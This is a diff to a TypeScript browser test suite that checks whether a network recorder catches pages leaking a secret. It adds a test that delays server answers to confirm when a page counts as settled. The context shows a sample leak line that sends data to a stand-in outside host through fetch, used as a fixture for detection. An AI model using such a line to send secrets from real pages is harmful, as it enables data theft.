@@ -33,6 +33,9 @@ const WAYS: Record<string, string> = {
   "another site": `fetch("http://example.invalid/out?" + L, { mode: "no-cors" }).catch(() => {})`,
 };
 
+/** Each answer of these waits until the test releases it. */
+const HELD = "/held";
+
 const FILES: Record<string, [type: string, content: string]> = {
   "/": ["text/html", "<!doctype html><title>leaks</title>"],
   "/leak-worker.js": [
@@ -49,18 +52,24 @@ const FILES: Record<string, [type: string, content: string]> = {
   ],
 };
 
-const test = base.extend<{ wire: Wire; site: string }>({
+const test = base.extend<{ wire: Wire; site: string; held: (() => void)[] }>({
+  held: async ({}, use) => use([]),
   wire: async ({}, use) => {
     const wire = await Wire.start();
     await use(wire);
     await wire.stop();
   },
   proxy: async ({ wire }, use) => use({ server: wire.address }),
-  site: async ({}, use) => {
+  site: async ({ held }, use) => {
     const server: Server = createServer((asked, answer) => {
       const [type, content] = FILES[asked.url ?? ""] ?? ["text/plain", ""];
       asked.resume();
-      answer.writeHead(200, { "content-type": type, "cache-control": "no-store" }).end(content);
+      const send = () => answer.writeHead(200, { "content-type": type, "cache-control": "no-store" }).end(content);
+      if (asked.url?.startsWith(HELD)) {
+        held.push(send);
+      } else {
+        send();
+      }
     });
     await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
     await use(`http://127.0.0.1:${(server.address() as AddressInfo).port}`);
@@ -108,4 +117,21 @@ test("a page that leaks nothing leaves no trace of the secret, and its requests 
   const posted = wire.left.filter((left) => left.method === "POST");
   expect(posted.map((left) => left.body.toString())).toEqual(["nada"]);
   expect(leaks(wire)).toEqual([]);
+});
+
+test("a page is settled once its last answer asks for nothing more", async ({ page, site, wire, held }) => {
+  await page.goto(`${site}/`);
+  await page.evaluate((first) => void fetch(first).then(() => fetch(`${first}/second`)), HELD);
+  let settled = false;
+  const waiting = wire.settled(page).then(() => (settled = true));
+  for (const count of [1, 2]) {
+    await expect.poll(() => held.length).toBe(count);
+    expect(settled, `answer ${count} is still to come`).toBe(false);
+    held[count - 1]?.();
+  }
+  await waiting;
+  expect(wire.left.map((left) => left.url.pathname).filter((path) => path.startsWith(HELD))).toEqual([
+    HELD,
+    `${HELD}/second`,
+  ]);
 });
